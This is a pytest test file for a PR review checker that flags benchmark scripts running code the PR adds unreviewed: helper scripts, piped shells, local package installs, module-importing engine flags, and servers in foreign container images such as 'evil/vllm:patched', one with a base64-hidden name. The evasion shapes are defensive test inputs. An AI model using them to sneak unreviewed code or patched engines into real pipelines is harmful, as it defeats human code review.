"""Checks 7, 8 and engine-patches hold a script run by file against a PASS when the PR may have
written that file (it adds or changes it, or the word is known only at run time and the PR
adds or changes any file but its master configs and changelog); unchanged repository files were
reviewed when they landed."""

from __future__ import annotations

import pytest
from builders import SCRIPT, SCRIPT_PATH, add_changed_file, passing_parts, replace_file

# Outside the `benchmarks/**/*.sh` glob, so no check reads it as a benchmark script of its own.
HELPER_PATH = "benchmarks/single_node/fixed_seq_len/helper.bash"
# What a PR would hide in a file it runs: a flagless benchmark call and an architecture override.
HELPER = (
    "#!/usr/bin/env bash\n"
    'vllm serve "$MODEL" --hf-overrides \'{"num_hidden_layers": 2}\' &\n'
    'run_benchmark_serving --model "$MODEL" --port 8888\n'
)
OTHER = "benchmarks/single_node/fixed_seq_len/setup.bash"  # another shell file the PR adds
CHECKS = ("no-arch-hacks", "spec-chat-template", "engine-patches")
ANCHOR = 'hf download "$MODEL"\n'


def _script_running(line: str) -> str:
    return SCRIPT.replace(ANCHOR, ANCHOR + line + "\n")


def _assert_passes(check, parts: dict, check_ids: tuple[str, ...]) -> None:
    for check_id in check_ids:
        result = check(parts, check_id)
        assert result.status == "PASS", (check_id, result.reason)


def _assert_passes_beside(check, line: str, added: tuple[str, ...], text: str = "1;\n") -> None:
    """A script running `line` passes every check while the PR adds `added` elsewhere."""
    parts = _parts(line, helper=None)
    for path in added:
        add_changed_file(parts, path, text)
    _assert_passes(check, parts, CHECKS)


def _assert_no_container_finding(check, parts: dict) -> None:
    for check_id in CHECKS:
        result = check(parts, check_id)
        assert "container image" not in result.reason, (check_id, result.reason)


def _parts(line: str, *, helper: str | None = "added", other: str | None = None) -> dict:
    """The passing PR whose script also runs `line`; the PR adds (or changes) the helper, and
    `other` names another shell file it adds."""
    parts = passing_parts()
    add_changed_file(parts, SCRIPT_PATH, _script_running(line))
    if helper == "added":
        add_changed_file(parts, HELPER_PATH, HELPER)
    elif helper == "changed":
        add_changed_file(parts, HELPER_PATH, HELPER, base="#!/usr/bin/env bash\necho old\n")
    if other is not None:
        add_changed_file(parts, other, "#!/usr/bin/env bash\necho hi\n")
    return parts


@pytest.mark.parametrize("check_id", CHECKS)
def test_running_a_script_the_pr_adds_fails_naming_script_line_word_and_file(check, check_id):
    result = check(_parts("bash ./helper.bash"), check_id)
    assert result.status == "FAIL", result.reason
    assert f"{SCRIPT_PATH}:6 runs `bash ./helper.bash`" in result.reason
    assert f"which this PR adds (`{HELPER_PATH}`)" in result.reason
    assert "signoff does not read scripts run by file" in result.reason


@pytest.mark.parametrize("check_id", CHECKS)
def test_running_a_script_the_pr_changes_fails(check, check_id):
    result = check(_parts("sh helper.bash", helper="changed"), check_id)
    assert result.status == "FAIL", result.reason
    assert f"which this PR changes (`{HELPER_PATH}`)" in result.reason


@pytest.mark.parametrize(
    "line",
    [
        "./helper.bash",
        "dash helper.bash --fast",
        'exec bash "helper.bash"',
        "timeout 10 bash helper.bash",
        "nohup ./helper.bash > /dev/null 2>&1 &",
        "env A=1 bash ./helper.bash",
        '"$DIR/helper.bash" --port 8888',
        "bash -x -o pipefail ./helper.bash",
        "/bin/bash benchmarks/single_node/fixed_seq_len/helper.bash",
        'H=./helper.bash; "$H"',
    ],
)
def test_every_shape_of_running_an_added_script_fails_check_8(check, line):
    result = check(_parts(line), "spec-chat-template")
    assert result.status == "FAIL", result.reason
    assert HELPER_PATH in result.reason and "signoff does not read scripts run by file" in (
        result.reason
    )


def test_a_helper_run_next_to_the_script_fails_checks_7_and_8_but_engine_patches_reads_it(check):
    parts = _parts('bash "$(dirname "$0")/helper.sh"', helper=None)
    add_changed_file(parts, SCRIPT_PATH.rsplit("/", 1)[0] + "/helper.sh", HELPER)
    assert "--hf-overrides" in check(parts, "no-arch-hacks").reason  # a changed script: read
    result = check(parts, "spec-chat-template")
    assert result.status == "FAIL" and "which this PR adds" in result.reason
    result = check(parts, "engine-patches")  # it reads that helper, which patches nothing
    assert result.status == "PASS", result.reason


@pytest.mark.parametrize("check_id", CHECKS)
def test_running_an_unchanged_repository_script_passes(check, check_id):
    result = check(_parts("bash ./dependencies.sh", helper=None), check_id)
    assert result.status == "PASS", result.reason


@pytest.mark.parametrize("check_id", CHECKS)
def test_a_run_time_word_fails_when_the_pr_adds_another_shell_file(check, check_id):
    parts = _parts('bash "$SETUP_SCRIPT"', helper=None, other=OTHER)
    result = check(parts, check_id)
    assert result.status == "FAIL", result.reason
    assert "`bash $SETUP_SCRIPT`" in result.reason
    assert "known only at run time" in result.reason and OTHER in result.reason


@pytest.mark.parametrize("other", ["benchmarks/single_node/notes.txt", "docs/run.md"])
@pytest.mark.parametrize("check_id", CHECKS)
def test_a_run_time_word_fails_when_the_pr_adds_a_file_of_any_name(check, check_id, other):
    # `bash notes.txt` runs it: a shell does not care what a script file is called.
    parts = _parts('bash "$(ls benchmarks/single_node/*.txt docs/*.md)"', helper=None, other=other)
    result = check(parts, check_id)
    assert result.status == "FAIL", result.reason
    assert "known only at run time" in result.reason and f"`{other}`" in result.reason


@pytest.mark.parametrize("check_id", CHECKS)
def test_a_run_time_word_passes_when_the_pr_changes_only_its_script_config_and_changelog(
    check, check_id
):
    result = check(_parts('bash "$SETUP_SCRIPT"', helper=None), check_id)
    assert result.status == "PASS", result.reason


@pytest.mark.parametrize(
    "line",
    ["if false; then bash ./helper.bash; fi", "true || ./helper.bash", "f() { ./helper.bash; }"],
)
@pytest.mark.parametrize("check_id", CHECKS)
def test_a_script_run_on_a_dead_path_counts_for_nothing(check, check_id, line):
    result = check(_parts(line), check_id)
    assert result.status == "PASS", result.reason


def test_an_undecided_branch_counts_and_the_reason_says_why_it_may_run(check):
    result = check(
        _parts('if [ -n "$RUN_HELPER" ]; then bash ./helper.bash; fi'), "spec-chat-template"
    )
    assert result.status == "FAIL", result.reason
    assert "may run" in result.reason


@pytest.mark.parametrize("check_id", CHECKS)
def test_an_incomplete_file_list_fails_closed_on_any_script_run_by_file(check, check_id):
    parts = _parts("bash ./dependencies.sh", helper=None)
    parts["files_truncated"] = True
    result = check(parts, check_id)
    assert result.status == "FAIL", result.reason
    assert "`bash ./dependencies.sh`" in result.reason and "incomplete" in result.reason


def test_a_command_string_run_by_bash_c_is_read_not_held_against_the_script(check):
    result = check(_parts("bash -c 'echo ready'"), "spec-chat-template")
    assert result.status == "PASS", result.reason


def test_sourcing_another_file_still_fails_closed(check):
    result = check(_parts("source ./helper.bash"), "spec-chat-template")
    assert result.status == "FAIL" and "sources ./helper.bash" in result.reason


@pytest.mark.parametrize(
    "line",
    [
        "cd /tmp && bash dependencies.sh",
        'bash "$(dirname "$0")/apply_k3_container_patches.sh"',
    ],
)
@pytest.mark.parametrize("check_id", CHECKS)
def test_the_real_inferencex_shapes_left_unchanged_pass(check, check_id, line):
    parts = _parts(line, helper=None)
    patches = "benchmarks/single_node/fixed_seq_len/apply_k3_container_patches.sh"
    replace_file(parts, patches, "head", "#!/usr/bin/env bash\necho setup\n")
    result = check(parts, check_id)
    assert result.status == "PASS", result.reason


def test_check_3_is_unaffected_by_a_script_run_by_file(check):
    before = check(passing_parts(), "recipe")
    after = check(_parts("bash ./helper.bash"), "recipe")
    assert (after.status, after.reason) == (before.status, before.reason)


def test_engine_patches_does_not_count_a_run_time_word_against_library_lines_it_reads(check):
    parts = _parts('bash "$SETUP_SCRIPT"', helper=None)
    add_changed_file(parts, "benchmarks/benchmark_lib.sh", "f() { :; }\n", base="\n")
    assert check(parts, "engine-patches").status == "PASS"
    result = check(parts, "spec-chat-template")  # Check 8 does not read the library
    assert result.status == "FAIL" and "`benchmarks/benchmark_lib.sh`" in result.reason


@pytest.mark.parametrize("line", ["cat ./helper.bash | bash", "bash < ./helper.bash"])
def test_a_shell_reading_its_script_from_standard_input_counts_as_a_run_time_word(check, line):
    result = check(_parts(line), "spec-chat-template")
    assert result.status == "FAIL", result.reason
    assert "`(standard input)`" in result.reason and HELPER_PATH in result.reason


def test_a_shell_fed_a_quoted_heredoc_is_read_as_its_script(check):
    line = "bash <<'EOF'\nrun_benchmark_serving --model \"$MODEL\"\nEOF"
    result = check(_parts(line, helper=None), "spec-chat-template")
    assert result.status == "FAIL", result.reason
    assert "calls run_benchmark_serving without --use-chat-template" in result.reason


def test_a_shell_fed_an_expanding_heredoc_fails_closed(check):
    line = 'bash <<EOF\nrun_benchmark_serving --model "$MODEL" --use-chat-template\nEOF'
    result = check(_parts(line, helper=None), "spec-chat-template")
    assert result.status == "FAIL", result.reason
    assert "runs an expanding heredoc as its script" in result.reason


def test_a_plain_command_name_that_is_a_file_the_pr_adds_counts(check):
    line = 'PATH="$(dirname "$0"):$PATH"; helper.bash --port 8888'
    result = check(_parts(line), "spec-chat-template")
    assert result.status == "FAIL", result.reason
    assert f"runs `helper.bash --port 8888`, which this PR adds (`{HELPER_PATH}`)" in result.reason


def test_a_plain_command_that_names_no_changed_file_is_unaffected(check):
    result = check(_parts("nvidia-smi -L"), "spec-chat-template")
    assert result.status == "PASS", result.reason


# `python3 -m MOD` runs MOD's file (`a/b/c.py`, or a package's `__main__.py`) and imports each
# package's `__init__.py` on the way: code the PR may have written, as `python3 FILE` is.
MODULE_RUNS = {
    "module": ("python3 -m helpermod --port 8888", "benchmarks/single_node/helpermod.py"),
    "dotted-module": ("python3 -u -m tools.helpermod", "benchmarks/tools/helpermod.py"),
    "joined-option": ("python3 -mhelpermod", "benchmarks/single_node/helpermod.py"),
    "package-main": ("python -m helperpkg", "benchmarks/single_node/helperpkg/__main__.py"),
    "package-init": ("python3 -m helperpkg.run", "benchmarks/single_node/helperpkg/__init__.py"),
    "behind-wrapper": ("timeout 60 python3.12 -m helpermod", "benchmarks/helpermod.py"),
}


def _failed_with_added(check, check_id: str, line: str, added: str, text: str):
    """The check's result for a script running `line` when the PR adds `added`: a FAIL."""
    parts = _parts(line, helper=None)
    add_changed_file(parts, added, text)
    result = check(parts, check_id)
    assert result.status == "FAIL", result.reason
    return result


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("case", sorted(MODULE_RUNS))
def test_a_python_module_the_pr_adds_counts_as_a_script_run_by_file(check, case, check_id):
    line, added = MODULE_RUNS[case]
    result = _failed_with_added(check, check_id, line, added, "import os\n")
    assert f"which this PR adds (`{added}`)" in result.reason
    assert f"runs `{line.split(' --')[0]}" in result.reason


@pytest.mark.parametrize(
    "line, added",
    [
        ("python3 -m pip install -U x", "benchmarks/single_node/helpermod.py"),
        ("python3 -m helperpkg.run", "experimental/other/__init__.py"),  # another package's
        ("python3 -m helperpkg", "experimental/other/__main__.py"),
        ("python3 -c 'import helpermod'", "benchmarks/single_node/other.py"),
    ],
    ids=["other-module", "other-package-init", "other-package-main", "inline-program"],
)
def test_a_python_module_the_pr_does_not_touch_counts_for_nothing(check, line, added):
    parts = _parts(line, helper=None)
    add_changed_file(parts, added, "import os\n")
    _assert_passes(check, parts, CHECKS)


@pytest.mark.parametrize("check_id", CHECKS)
def test_a_python_module_named_at_run_time_is_a_run_time_word(check, check_id):
    parts = _parts('python3 -m "$TOOL"', helper=None, other=OTHER)
    result = check(parts, check_id)
    assert result.status == "FAIL" and "known only at run time" in result.reason, result.reason
    assert check(_parts('python3 -m "$TOOL"', helper=None), check_id).status == "PASS"


# `python3 -c "$CODE"`: a program that is all run-time text is a program known only at run time,
# as `python3 "$FILE"` is; one written out with a value inside is scanned as text.
@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize(
    "line", ['python3 -c "$CODE"', 'python3 -c "${CODE:-}" x', "python -c $CODE"]
)
def test_a_python_program_known_only_at_run_time_is_a_run_time_word(check, check_id, line):
    result = check(_parts(line, helper=None, other=OTHER), check_id)
    assert result.status == "FAIL", result.reason
    assert "known only at run time" in result.reason and OTHER in result.reason
    assert check(_parts(line, helper=None), check_id).status == "PASS"


def test_a_python_program_written_out_with_a_value_inside_is_not_a_run_time_word(check):
    line = "python3 -c \"import json; print(json.load(open('$CONFIG')))\""
    result = check(_parts(line, helper=None, other=OTHER), "spec-chat-template")
    assert result.status == "PASS", result.reason


# Installing a local project runs its build (`setup.py`, the build backend) and puts its code on
# the path: a directory holding a file the PR adds or changes is code the sweep runs.
PACKAGE = {
    "benchmarks/single_node/pkg/setup.py": "from setuptools import setup\nsetup(name='pkg')\n",
    "benchmarks/single_node/pkg/pkg/__init__.py": "import os\n",
}
LOCAL_INSTALLS = [
    "pip install benchmarks/single_node/pkg",
    "uv pip install --no-deps benchmarks/single_node/pkg/",
    "cd benchmarks/single_node/pkg && pip install .",
    "cd benchmarks/single_node/pkg && pip install -e '.[dev]'",
    "cd benchmarks/single_node && python3 -m pip install --no-build-isolation ./pkg",
    'pip install "$(dirname "$0")/../pkg"',
    'pip install --editable "$GITHUB_WORKSPACE/benchmarks/single_node/pkg"',
    # an editable install's value is a directory however it is spelled
    "cd benchmarks/single_node && pip install -e pkg",
    "cd benchmarks/single_node && pip install --no-deps -e 'pkg[dev]'",
    "cd benchmarks/single_node && uv pip install --editable=pkg",
    "cd benchmarks/single_node && uv run --no-project --with-editable pkg python3 -c 1",
    "pip install /workspace/benchmarks/single_node/pkg",  # the checkout, mounted
    "cd /workspace/benchmarks/single_node/pkg && pip install .",
    # cmake's configure step runs the source directory's CMakeLists.txt (`execute_process`)
    "cmake -S benchmarks/single_node/pkg -B /tmp/build",
    "cd benchmarks/single_node/pkg && mkdir -p build && cd build && cmake -G Ninja ..",
    # a checkout root known only at run time: the path's known tail names the directory
    'pip install "$ROOT/benchmarks/single_node/pkg"',
    'pip install "${ROOT:-/opt/src}/benchmarks/single_node/pkg"',  # a default is run-time too
    'cd "$ROOT/benchmarks/single_node/pkg" && pip install .',
    'pip install "${BASH_SOURCE%/*}/../pkg"',
    # project managers build the project of a directory, or a local path they are handed
    "cd benchmarks/single_node/pkg && uv sync",
    "uv run --project benchmarks/single_node/pkg pkg-cli",
    "uvx --from ./benchmarks/single_node/pkg pkg-cli",
    "cd benchmarks/single_node/pkg && poetry install --no-root",
    "pipx install benchmarks/single_node/pkg",
    # other languages' package managers run the project's hooks (npm lifecycle, build.rs)
    "cd benchmarks/single_node/pkg && npm ci",
    "yarn --cwd benchmarks/single_node/pkg build",
    "cargo build --manifest-path benchmarks/single_node/pkg/Cargo.toml",
    # Go builds and runs the packages it is handed (every package's `init`, `go generate`'s
    # commands; `./...` is the whole tree); bun and the package runners run a local package
    "cd benchmarks/single_node/pkg && go run .",
    "go run ./benchmarks/single_node/pkg --port 8888",
    "go generate ./benchmarks/single_node/pkg/...",
    "go test -run TestX ./benchmarks/single_node/pkg/...",
    "go build -C benchmarks/single_node/pkg -o /tmp/pkg",
    "bun --cwd benchmarks/single_node/pkg install",
    "npx ./benchmarks/single_node/pkg --port 8888",
    "pnpm dlx ./benchmarks/single_node/pkg",
]


def _installing(line: str) -> dict:
    parts = _parts(line, helper=None)
    for path, text in PACKAGE.items():
        add_changed_file(parts, path, text)
    return parts


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("line", LOCAL_INSTALLS)
def test_installing_a_directory_holding_a_file_the_pr_adds_fails(check, line, check_id):
    result = check(_installing(line), check_id)
    assert result.status == "FAIL", result.reason
    assert "installs `benchmarks/single_node/pkg`" in result.reason
    assert "benchmarks/single_node/pkg/" in result.reason and "which this PR adds" in result.reason


@pytest.mark.parametrize("check_id", CHECKS)
def test_a_directory_named_with_an_at_sign_is_still_a_local_install(check, check_id):
    line = "pip install ./benchmarks/single_node/fork@v1"
    result = _failed_with_added(
        check, check_id, line, "benchmarks/single_node/fork@v1/setup.py", "import os\n"
    )
    assert "installs `benchmarks/single_node/fork@v1`" in result.reason


@pytest.mark.parametrize(
    "line",
    [
        "cd /tmp/clone && pip install -e .",
        'cd "$SRC_DIR" && uv pip install -e .',
        "pip install benchmarks/single_node/other",
        "pip install aiperf==1.0 ./benchmarks/single_node/notes",
        "cd benchmarks/single_node && pip install pkg",  # a name: pip asks the index for it
        "cd benchmarks/single_node && pip install -e git+https://github.com/o/pkg#egg=pkg",
        "pip install -r benchmarks/single_node/requirements.txt",
        "uv run --no-project --with pyyaml --python 3.12 utils/ci_priority.py",
        "cd /tmp/clone && uv sync",
        "cd /tmp/clone && cmake -B build . && cmake --build build",
        "pip install /opt/workspace/benchmarks/single_node/pkg",  # not where it is mounted
        "cd benchmarks/single_node/pkg && cmake --build /tmp/build",  # builds what exists
        "pipx install aiperf",
        "uvx ruff check benchmarks/single_node/pkg",
        "cd benchmarks/single_node/pkg && cargo install ripgrep",
        "gem install rake",
        "npm --version",
    ],
)
def test_installing_a_directory_the_pr_does_not_touch_counts_for_nothing(check, line):
    parts = _installing(line)
    _assert_passes(check, parts, ("no-arch-hacks", "spec-chat-template"))


# A package file a system package manager installs puts files anywhere in the image (the engine
# or the Python that runs it) and runs its maintainer scripts: one the PR adds is code it runs.
DEB = "benchmarks/single_node/engine.deb"
SYSTEM_PACKAGE_INSTALLS = [
    "apt-get install -y ./benchmarks/single_node/engine.deb",
    'sudo apt install -y "$(dirname "$0")/../engine.deb"',
    "cd benchmarks/single_node && dpkg -i engine.deb",
    'dpkg -x "$GITHUB_WORKSPACE/benchmarks/single_node/engine.deb" /',
    'apt install -y "$DEBS/single_node/engine.deb"',  # a run-time start: the known tail
]


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("line", SYSTEM_PACKAGE_INSTALLS)
def test_installing_a_package_file_the_pr_adds_fails(check, line, check_id):
    result = _failed_with_added(check, check_id, line, DEB, "!<arch>\n")
    assert f"`{DEB}`, which this PR adds" in result.reason
    assert "a directory holding" not in result.reason


@pytest.mark.parametrize(
    "line",
    [
        "apt-get install -y ./benchmarks/single_node/other.deb",
        "apt-get install -y engine.deb-tools",  # a package of the archive
        "dpkg -l engine",
        "rpm -qa",
    ],
)
def test_installing_a_package_file_the_pr_does_not_touch_counts_for_nothing(check, line):
    parts = _parts(line, helper=None)
    add_changed_file(parts, DEB, "!<arch>\n")
    _assert_passes(check, parts, ("no-arch-hacks", "spec-chat-template"))


# conda (mamba, micromamba) installs a package file by path (its link scripts run as it
# installs) and an environment or spec file's list (which may name a local package or a pip
# section): one the PR adds is code the sweep runs that signoff does not read.
CONDA_FILES = {
    "conda install -y ./benchmarks/single_node/engine-1.0.tar.bz2": (
        "benchmarks/single_node/engine-1.0.tar.bz2",
        "which installs",
    ),
    "mamba env create -f benchmarks/single_node/env.yml": (
        "benchmarks/single_node/env.yml",
        "which this PR adds",
    ),
    "conda install --file=benchmarks/single_node/env.yml": (
        "benchmarks/single_node/env.yml",
        "which this PR adds",
    ),
}


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("line", sorted(CONDA_FILES))
def test_a_conda_package_or_environment_file_the_pr_adds_fails(check, line, check_id):
    path, says = CONDA_FILES[line]
    result = _failed_with_added(check, check_id, line, path, "name: x\n")
    assert path in result.reason and says in result.reason


@pytest.mark.parametrize(
    "line", ["conda install -y -c conda-forge numpy", "conda env create -f /opt/other.yml"]
)
def test_a_conda_install_of_what_the_pr_does_not_touch_counts_for_nothing(check, line):
    parts = _parts(line, helper=None)
    add_changed_file(parts, "benchmarks/single_node/env.yml", "name: x\n")
    _assert_passes(check, parts, ("no-arch-hacks", "spec-chat-template"))


# Engine flags whose value names Python code the engine imports (`--worker-cls mymod.W`, a KV
# connector's `kv_connector_module_path`): the module's file is code the launch runs.
SERVE = "  --kv-cache-dtype fp8 \\\n"
MODULE_FLAGS = {
    "worker-extension": "--worker-extension-cls mymod.Patch",
    "worker": "--worker-cls mymod.Worker",
    "scheduler-joined": "--scheduler-cls=mymod.Scheduler",
    "logits-processors-second": "--logits-processors builtin.LP mymod.LP",
    "middleware": "--middleware mymod.app",
    "underscore-spelling": "--worker_cls mymod.Worker",
    "dotted-package": "--worker-cls tools.mymod.Worker",
    "kv-connector-module": (
        '--kv-transfer-config \'{"kv_connector": "X", "kv_connector_module_path": "mymod"}\''
    ),
    "custom-weight-loader": "--custom-weight-loader builtin.load mymod.load",  # SGLang's
}
# vLLM's parser plugins, named by file path, and a module named only at run time
PLUGIN_FILES = {
    "run-time-joined": '--worker-cls="$(cat "$(dirname "$0")/cls.txt")"',
    "tool-parser-plugin": '--tool-parser-plugin "$(dirname "$0")/mymod.py"',
    "reasoning-parser-plugin": '--reasoning-parser-plugin="$(dirname "$0")/mymod.py"',
    "underscore-joined": '--tool_parser_plugin="$(dirname "$0")/mymod.py"',
}
# A logging configuration (Python's dictConfig: its handlers, filters and formatters may name
# any callable, `"()": "os.system"`), given to vLLM and its server by flag or by variable
LOGGING_CONFIGS = {
    "log-config-file": '--log-config-file "$(dirname "$0")/log.json"',
    "log-config-abbreviated": '--log-config="$(dirname "$0")/log.json"',
}
LOGGING_CONFIG = "benchmarks/single_node/fixed_seq_len/log.json"


def _serving_with(flag: str, added: str) -> dict:
    parts = passing_parts()
    add_changed_file(parts, SCRIPT_PATH, SCRIPT.replace(SERVE, SERVE.replace(" \\", f" {flag} \\")))
    add_changed_file(parts, added, "import vllm\n")
    return parts


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("case", sorted(MODULE_FLAGS))
def test_an_engine_flag_importing_a_module_the_pr_adds_fails(check, case, check_id):
    added = "benchmarks/single_node/fixed_seq_len/" + (
        "tools/mymod.py" if "tools." in MODULE_FLAGS[case] else "mymod.py"
    )
    result = check(_serving_with(MODULE_FLAGS[case], added), check_id)
    assert result.status == "FAIL", result.reason
    assert f"which this PR adds (`{added}`)" in result.reason


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("case", sorted(PLUGIN_FILES))
def test_an_engine_plugin_file_the_pr_adds_fails(check, case, check_id):
    added = "benchmarks/single_node/fixed_seq_len/mymod.py"
    result = check(_serving_with(PLUGIN_FILES[case], added), check_id)
    assert result.status == "FAIL", result.reason
    assert added in result.reason


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("case", sorted(LOGGING_CONFIGS))
def test_a_logging_config_the_pr_adds_is_code_the_engine_runs(check, case, check_id):
    result = check(_serving_with(LOGGING_CONFIGS[case], LOGGING_CONFIG), check_id)
    assert result.status == "FAIL", result.reason
    assert LOGGING_CONFIG in result.reason, result.reason  # Check 7: as a file the engine reads


@pytest.mark.parametrize("check_id", CHECKS)
def test_a_logging_config_named_by_variable_is_code_the_engine_runs(check, check_id):
    line = 'export VLLM_LOGGING_CONFIG_PATH="$(dirname "$0")/log.json"'
    result = _failed_with_added(check, check_id, line, LOGGING_CONFIG, '{"version": 1}\n')
    assert f"which this PR adds (`{LOGGING_CONFIG}`)" in result.reason, result.reason


@pytest.mark.parametrize(
    "line",
    [
        "export VLLM_LOGGING_CONFIG_PATH=/etc/vllm/logging.json",
        'vllm serve "$MODEL" --log-config-file /etc/vllm/logging.json --port 1 &',
    ],
)
def test_a_logging_config_the_pr_does_not_touch_counts_for_nothing(check, line):
    _assert_passes_beside(check, line, (LOGGING_CONFIG,), '{"version": 1}\n')


@pytest.mark.parametrize(
    "flag",
    [
        "--distributed-executor-backend mp",
        "--worker-cls vllm.v1.worker.gpu_worker.Worker",
        '--kv-transfer-config \'{"kv_connector": "LMCacheConnectorV1", "kv_role": "kv_both"}\'',
        "--tool-parser-plugin /opt/plugins/parser.py",
        '--speculative-config \'{"model": "nvidia/Eagle3-draft", "num_speculative_tokens": 3}\'',
    ],
)
def test_an_engine_flag_naming_code_the_pr_does_not_touch_counts_for_nothing(check, flag):
    parts = _serving_with(flag, "benchmarks/single_node/fixed_seq_len/mymod.py")
    _assert_passes(check, parts, ("no-arch-hacks", "spec-chat-template"))


# A server run inside a container runs the engine that image holds: another image than the
# sweep's (the entry's `image:`, bound as $IMAGE) is engine code signoff never sees.
SERVE_LINE = 'vllm serve "$MODEL"'
CONTAINERS = {
    "docker-literal": 'docker run --rm --gpus all -p "$PORT:$PORT" evil/vllm:patched vllm serve "$MODEL"',
    "podman-literal": 'podman run --rm --network host ghcr.io/x/vllm:dev vllm serve "$MODEL"',
    "docker-image-set-here": 'SERVER_IMAGE=x/vllm:dev; docker run --rm "$SERVER_IMAGE" vllm serve "$MODEL"',
    "docker-exec": 'docker exec my-server vllm serve "$MODEL"',
    # computed by the script when it runs, not from the sweep's $IMAGE
    "docker-computed": 'docker run --rm "$(echo ZXZpbA== | base64 -d)/vllm" vllm serve "$MODEL"',
    "docker-read-from-a-file": 'IMG=$(cat /tmp/img.txt)\ndocker run --rm $IMG vllm serve "$MODEL"',
    # a fallback the script wrote, run when the runner sets no such variable
    "docker-fallback": 'docker run --rm "${CLIENT_IMAGE:-evil/vllm:1}" vllm serve "$MODEL"',
    # what `read` or `mapfile` gives a variable when the script runs
    "docker-image-read": 'read -r IMG < /tmp/img.txt\ndocker run --rm "$IMG" vllm serve "$MODEL"',
    "docker-image-read-here-string": 'read -r IMG <<< "evil/vllm:1"\n'
    'docker run --rm "$IMG" vllm serve "$MODEL"',
    "docker-image-declared": 'x=SERVER; declare "${x}_IMAGE=evil/vllm:1"\n'
    'docker run --rm "$SERVER_IMAGE" vllm serve "$MODEL"',
    "docker-image-mapfile": "mapfile -t IMGS < /tmp/i\n"
    'docker run --rm "${IMGS[0]}" vllm serve "$MODEL"',
    # `printf -v` sets the variable as an assignment does (the image read from its output)
    "docker-image-printf-v": "IMG=$IMAGE; printf -v IMG 'evil/%s' vllm:1\n"
    'docker run --rm "$IMG" vllm serve "$MODEL"',
    # the runtime's global options before its subcommand, and its other spellings
    "docker-global-host": 'docker -H unix:///run/d.sock run --rm evil/vllm:1 vllm serve "$MODEL"',
    "docker-global-flags": 'docker -D --log-level debug run evil/vllm:1 vllm serve "$MODEL"',
    "docker-context": 'docker --context=gpu run --rm evil/vllm:1 vllm serve "$MODEL"',
    "podman-remote": 'podman --remote --url unix:///x run evil/vllm:1 vllm serve "$MODEL"',
    "docker-container-run": 'docker container run --rm evil/vllm:1 vllm serve "$MODEL"',
    "docker-start": 'cid=$(docker create evil/vllm:1 vllm serve "$MODEL")\ndocker start -a "$cid"',
    "containerd": 'ctr -n k8s.io run --rm --env A=1 docker.io/evil/vllm:1 srv vllm serve "$MODEL"',
    "kubernetes": 'kubectl -n gpu run srv --image=evil/vllm:1 -- vllm serve "$MODEL"',
}


def _served_in(line: str) -> dict:
    parts = passing_parts()
    add_changed_file(parts, SCRIPT_PATH, SCRIPT.replace(SERVE_LINE, line))
    return parts


def _beside_the_server(line: str) -> dict:
    """The script runs `line` in the background, then its own server."""
    return _served_in(line + ' &\nvllm serve "$MODEL"')


def _assert_another_image(result) -> None:
    assert result.status == "FAIL", result.reason
    assert "in container image" in result.reason and "not the sweep's image" in result.reason


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("case", sorted(CONTAINERS))
def test_a_server_run_in_another_container_image_fails(check, case, check_id):
    _assert_another_image(check(_served_in(CONTAINERS[case]), check_id))


@pytest.mark.parametrize(
    "line",
    [
        'docker run --rm --gpus all "$IMAGE" vllm serve "$MODEL"',
        'docker run --rm --ipc=host -e HF_TOKEN "${IMAGE}" vllm serve "$MODEL"',
        # named by the runner's environment, which the PR does not set
        'docker run --rm "$SERVER_IMAGE" vllm serve "$MODEL"',
        'docker run --rm "${SERVER_IMAGE:-}" vllm serve "$MODEL"',
        'docker run --rm "${DECODE_IMAGE:-$IMAGE}" vllm serve "$MODEL"',
        # the launchers' spelling of an enroot-style image (`#` for the registry's `/`)
        'docker run --rm "${IMAGE//#//}" vllm serve "$MODEL"',
        # made from the sweep's image at run time
        'docker run --rm "$(echo "$IMAGE" | sed s/#/\\//)" vllm serve "$MODEL"',
    ],
)
def test_a_server_run_in_the_sweep_s_own_image_passes(check, line):
    _assert_no_container_finding(check, _served_in(line))


# The same when the container runs a shell or Python given the server's command line (a string
# signoff does not read as the container's), not the launcher itself.
SHELLED = {
    "bash-c": "docker run --rm --gpus all evil/vllm:patched bash -c 'vllm serve \"$MODEL\"'",
    "sh-script": "podman run --rm -v /w:/w ghcr.io/x/vllm:dev sh /w/serve.sh",
    "python": "docker run --rm evil/vllm:patched python3 -m vllm.entrypoints.openai.api_server",
    "exec-bash": "docker exec -it my-server bash -lc 'vllm serve m'",
    # the image's own entry point serves, or one given with --entrypoint
    "entry-point": "docker run -d --rm -p 8888:8000 --shm-size 16g -e HF_TOKEN evil/vllm-server",
    "entrypoint-flag": 'docker run --rm --entrypoint vllm evil/vllm serve "$MODEL"',
    "sidecar": "docker run -d --rm --network host envoyproxy/envoy:v1.31",
    "sidecar-named-like-a-listed-one": "docker run -d --rm --network host evil/nginx:1.27",
}


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("case", sorted(SHELLED))
def test_a_shell_run_in_another_container_image_fails(check, case, check_id):
    _assert_another_image(check(_beside_the_server(SHELLED[case]), check_id))


@pytest.mark.parametrize(
    "line",
    [
        'docker run --rm --gpus all "$IMAGE" bash -c "echo hi"',
        "docker create --platform linux/amd64 envoyproxy/envoy:v1.31 && docker cp x:/a /b",
        # a sidecar the profile lists (images.sidecars), by any tag or registry spelling
        "docker run -d --rm --network host nginx:1.27",
        "docker run -d --rm docker.io/library/nginx@sha256:0123abcd",
        "enroot import -o /tmp/nginx.sqsh docker://nginx:1.27.4",
        'docker run --rm "${CLIENT_IMAGE}" bash -c "aiperf profile"',  # the runner's image
        # the launchers' shape: options with values, the entry point as an option, $IMAGE
        "docker run --rm --init --network host --name bmk --runtime nvidia --gpus all "
        '-v "$HF_HUB_CACHE:/hf" -e HF_TOKEN -e TP --entrypoint=/bin/bash "$IMAGE" run.sh',
    ],
)
def test_a_container_of_the_sweep_s_image_or_running_no_shell_passes(check, line):
    _assert_no_container_finding(check, _beside_the_server(line))


